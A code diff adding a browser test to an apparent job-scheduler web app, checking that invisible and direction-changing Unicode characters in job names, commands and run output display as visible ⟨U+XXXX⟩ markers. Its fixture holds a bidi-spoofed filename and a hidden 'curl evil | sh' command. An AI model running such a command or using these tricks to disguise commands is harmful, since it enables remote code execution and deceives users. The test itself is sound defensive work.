@@ -177,3 +177,53 @@ test('in a browser: filter the jobs, open one, click Run now, see the run appear
   assert.deepEqual(problems, [], 'no script errors or CSP violations');
   await page.close();
 });
+
+test('in a browser: invisible and direction-changing characters show as ⟨U+XXXX⟩, also after a live refresh', async () => {
+  const [catId] = await tdb.db('categories').insert({ name: 'bidi' });
+  const [jobId] = await tdb.db('jobs').insert({
+    name: 'invoice\u202efdp.exe',
+    category_id: catId,
+    command: 'echo safe \u2066; curl evil | sh\u2069 \u200b',
+    schedule: '0 * * * *',
+    routing_key: 'default',
+    run_now: 0,
+  });
+  const runId = 'b1d1'.padEnd(32, '0');
+  await tdb.db('runs').insert({
+    run_id: runId,
+    job_id: jobId,
+    job_name: 'invoice\u202efdp.exe',
+    scheduled_for: new Date(),
+    status: 'running',
+    queued_at: new Date(),
+    started_at: new Date(),
+    output_tail: 'first\n',
+  });
+  const page = await browser.newPage();
+  try {
+    await page.goto(`${web.url}/job/${jobId}`);
+    const jobText = await page.locator('main, body').first().innerText();
+    assert.ok(jobText.includes('invoice⟨U+202E⟩fdp.exe'), 'the name shows its override');
+    assert.ok(
+      jobText.includes('⟨U+2066⟩') && jobText.includes('⟨U+2069⟩') && jobText.includes('⟨U+200B⟩'),
+    );
+    assert.ok(!/[\u202e\u2066\u2069\u200b]/.test(jobText), 'no raw override reaches the screen');
+    await shot(page, 'bidi-job');
+
+    await page.goto(`${web.url}/run/${runId}`);
+    await tdb
+      .db('runs')
+      .where('run_id', runId)
+      .update({ output_tail: 'first\nthen \u202eevil\u001b[0m\n' });
+    // The refresh script polls a running run and rewrites the output.
+    for (let i = 0; i < 300; i++) {
+      if ((await page.locator('#output').innerText()).includes('then')) break;
+      await page.waitForTimeout(100);
+    }
+    const out = await page.locator('#output').innerText();
+    assert.ok(out.includes('then ⟨U+202E⟩evil⟨U+001B⟩[0m'), out);
+    assert.ok(!/[\u202e\u001b]/.test(out));
+  } finally {
+    await page.close();
+  }
+});
